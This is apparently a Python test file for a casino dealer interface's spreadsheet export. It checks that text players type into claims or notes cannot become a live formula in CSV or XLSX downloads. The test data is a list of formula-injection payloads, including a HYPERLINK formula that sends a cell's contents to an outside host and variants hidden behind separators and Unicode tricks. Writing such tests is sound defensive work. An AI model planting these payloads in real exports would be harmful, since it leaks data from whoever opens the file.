"""No spreadsheet runs what somebody typed into a claim or a note, whatever it takes for a separator."""

from __future__ import annotations

import io
import re
import unicodedata
from types import SimpleNamespace
from typing import Any, cast

import pytest
from django.test import RequestFactory
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from casino.embedded import BASE_DIR
from dealer_ui import exports
from tests import load

CALL = '=HYPERLINK("http://elsewhere/"&A1)'
ATTACKS = [
    CALL, f"x;{CALL}", f'x;"{CALL}', f"x\t{CALL}", f"x\r\n{CALL}", f"x|{CALL}", f"  {CALL}", f"\ufeff{CALL}",
    f"\u200b{CALL}", f"\x01{CALL}", f"\xa0{CALL}", f"'{CALL}", "＝1+1", "x; ＋1", "－1", "＠SUM(A1)", "﹦1", "-1+1|cmd",
    "@SUM(A1)", "\t=1", "\r=1", "x\u2028=1",
]  # fmt: skip
PIECES = st.sampled_from([*"=+-@＝＋－＠;|\t\r\n\"' ,x1", "\ufeff", "\u200b", "\x01", "\xa0", "\u2028"])
TEXTS = st.lists(PIECES, max_size=12).map("".join) | st.text(max_size=30)


def formulas(text: str) -> list[str]:
    """The cells that begin as a formula, where each of the usual characters separates and quotes mean nothing."""
    cells = re.split(r"[;|\t\r\n\v\f\x85\u2028\u2029]", text)
    cells = [re.sub(r'^[\s"]+', "", "".join(filter(seen, cell))) for cell in cells]
    return [cell for cell in cells if unicodedata.normalize("NFKC", cell[:1]) in {"=", "+", "-", "@"}]


def seen(letter: str) -> bool:
    return unicodedata.category(letter) not in {"Cc", "Cf"}


@pytest.mark.parametrize("text", ATTACKS)
def test_the_attacks_are_seen_by_this_test(text: str) -> None:
    assert formulas(text.lstrip("'"))


@pytest.mark.parametrize("text", ATTACKS)
def test_what_looks_like_a_formula_anywhere_is_text(text: str) -> None:
    """Harm: an auditor opens a list of disputes, and a player's claim sends it elsewhere."""
    assert formulas(exports.spell([[5, text, "x"]]).removesuffix("\r\n")) == []


@given(TEXTS)
def test_no_text_is_a_formula_in_any_country(text: str) -> None:
    assert formulas(str(exports.cell(text))) == []


@settings(deadline=None)  # a workbook is written and read: no matter of milliseconds
@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=3))
def test_no_workbook_has_a_formula(rows: list[list[str]]) -> None:
    """Also of what is left when the characters are taken out that a workbook cannot hold."""
    with exports._workbook(("a", "b"), [rows], about=rows) as file:
        book = load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []


def test_a_download_of_attacks_has_no_formula(rf: RequestFactory) -> None:
    """The whole way, as a spreadsheet gets it."""
    rows = [[[number, text] for number, text in enumerate(ATTACKS)]]
    request = rf.get("/?as=xlsx")
    request.user = cast(Any, SimpleNamespace(pk=1, has_perm=lambda permission: True))
    answer = exports.answer(request, "list", ("number", "text"), iter(rows))
    sheet = load_workbook(io.BytesIO(load.whole(answer))).active
    answer.close()
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"n", "s"}


@pytest.mark.parametrize("value", ["Rocket 1", "a; b", "9-5", "a=b", "x, -5", '{"a":-1,"b":"="}', -5, 2.5, True])
def test_what_is_no_formula_stays_as_it_is(value: Any) -> None:
    """Harm: evidence that is no longer what it was."""
    assert exports.cell(value) == value


def test_nobody_writes_a_list_past_the_guard() -> None:
    """Harm: a second writer, that knows nothing of this."""
    sources = [path for app in ("casino", "dealer_ui", "ledger", "tables") for path in (BASE_DIR / app).rglob("*.py")]
    writers = {path.name for path in sources if re.search(r"^\s*(import|from) (csv|openpyxl)", path.read_text(), re.M)}
    assert writers == {"exports.py"}
